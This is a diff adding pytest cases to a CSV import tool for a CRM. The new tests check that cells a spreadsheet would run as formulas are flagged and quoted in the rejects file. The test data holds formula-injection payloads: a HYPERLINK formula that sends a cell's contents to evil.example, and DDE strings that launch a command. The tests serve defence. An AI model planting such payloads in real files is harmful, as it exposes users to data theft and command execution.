@@ -82,7 +82,7 @@ MANDATORY = field("Last_Name", "text", system_mandatory=True, length=80)
         ("\u200b", "required-empty"),  # zero-width space
         (" \u3000\u2009\u200d ", "required-empty"),  # ideographic and thin spaces, a joiner
         ("\ufeff", "control-character"),  # a BOM is a control character wherever it stands
-        ("\tx", None),  # leading whitespace around a value is still a value
+        (" x", None),  # leading whitespace around a value is still a value
         ("Ø", None),
         ("\xa0Doe", None),
     ],
@@ -134,3 +134,93 @@ def test_headers_with_hidden_characters_say_so(header: str, expected: str) -> No
     assert issue.column == header  # the machine field keeps the exact header
     assert expected in issue.message and "label" not in issue.message
     assert issue.message.endswith("did you mean 'Email'?")
+
+
+# --- case 8: cells a spreadsheet would run as a formula ------------------------------------------------
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "- first item",
+)
+DATA = ("-5", "-1,234.50", "+91 98765 43210", "(555) 123-4567", "a=b", "plain", "", "'quoted", "-", "+")
+
+
+@pytest.mark.parametrize(
+    ("f", "value", "code"),
+    [
+        *[(field("Description", "textarea", length=32000), v, "formula-like") for v in FORMULAS],
+        *[(field("Description", "textarea", length=32000), v, None) for v in DATA],
+        (field("Title", "text", length=100), "=1+1", "formula-like"),
+        (field("Phone", "phone"), "+919876543210", None),  # the phone's own rule takes the '+'
+        (field("Phone", "phone"), "=1+1", "invalid-phone"),
+        (field("Amount", "integer"), "-5", None),  # a negative number is data
+        (field("Lead_Source", "picklist", pick_list_values=[{"display_value": "-None-"}]), "-None-", None),
+        (
+            field("Lead_Source", "picklist", pick_list_values=[{"display_value": "-None-"}]),
+            "=evil()",
+            "formula-like",
+        ),
+        (field("Tags", "multiselectpicklist"), "@x;y", "formula-like"),
+    ],
+)
+def test_formula_like_warns_on_text_fields_only(f: dict[str, object], value: str, code: str | None) -> None:
+    assert judge_values(f, [value, ""]) == [code, None]
+
+
+def test_formula_like_on_a_lookup_by_name() -> None:
+    f = field("Account_Name", "lookup", lookup={"module": {"api_name": "Accounts"}})
+    assert judge_values(f, ["=1+1", "Zylker"], header="Account_Name.Account_Name") == ["formula-like", None]
+
+
+def _zip_rows(out: Path) -> list[list[str]]:
+    import csv
+    import io
+    import zipfile
+
+    rows: list[list[str]] = []
+    for z in sorted(out.glob("*.zip")):
+        with zipfile.ZipFile(z) as zf:
+            [name] = zf.namelist()
+            rows += list(csv.reader(io.StringIO(zf.read(name).decode("utf-8"), newline="")))[1:]
+    return rows
+
+
+def test_rejects_neutralise_formulas_and_pack_restores_them(tmp_path: Path) -> None:
+    values = [*FORMULAS, "'=already quoted", "''@twice", "'plain", "-5", "'"]
+    lines = ["Last_Name,Email,Description"]
+    for n, v in enumerate(values):
+        cell = '"' + v.replace('"', '""') + '"'
+        lines.append(f"Doe{n},not-an-email,{cell}")  # every row has an error: all go to rejects.csv
+    src = _write(tmp_path / "in.csv", "\r\n".join(lines) + "\r\n")
+    first = tmp_path / "first"
+    assert csvprep.pack(src, first, module="Contacts").totals.rows_rejected == len(values)
+    rejects = (first / "rejects.csv").read_text(encoding="utf-8")
+    import csv
+    import io
+
+    table = list(csv.DictReader(io.StringIO(rejects, newline="")))
+    shown = [r["Description"] for r in table]
+    quoted = [*FORMULAS, "'=already quoted", "''@twice"]  # a formula, maybe after quotes: one quote more
+    assert shown == [("'" + v if v in quoted else v) for v in values]
+
+    # The person fixes the emails and packs rejects.csv again, quotes and all.
+    fixed = tmp_path / "fixed.csv"
+    fixed.write_text(rejects.replace("not-an-email", "jane@example.com"), encoding="utf-8", newline="")
+    second = tmp_path / "second"
+    result = csvprep.pack(fixed, second, module="Contacts")
+    assert result.totals.rows_rejected == 0
+    assert [r[-1] for r in _zip_rows(second)] == values  # byte for byte the original cells
+    again = csvprep.check(fixed, module="Contacts")
+    assert {i.value for i in again.issues if i.code == "formula-like"} == set(FORMULAS)
+
+
+def test_zips_keep_formula_values_as_they_are(tmp_path: Path) -> None:
+    src = _write(tmp_path / "in.csv", 'Last_Name,Description\nDoe,"=1+1"\n')
+    result = csvprep.pack(src, tmp_path / "out", module="Contacts")
+    assert result.totals.rows_packed == 1 and result.report.summary.warnings == 1
+    assert _zip_rows(tmp_path / "out") == [["Doe", "=1+1"]]
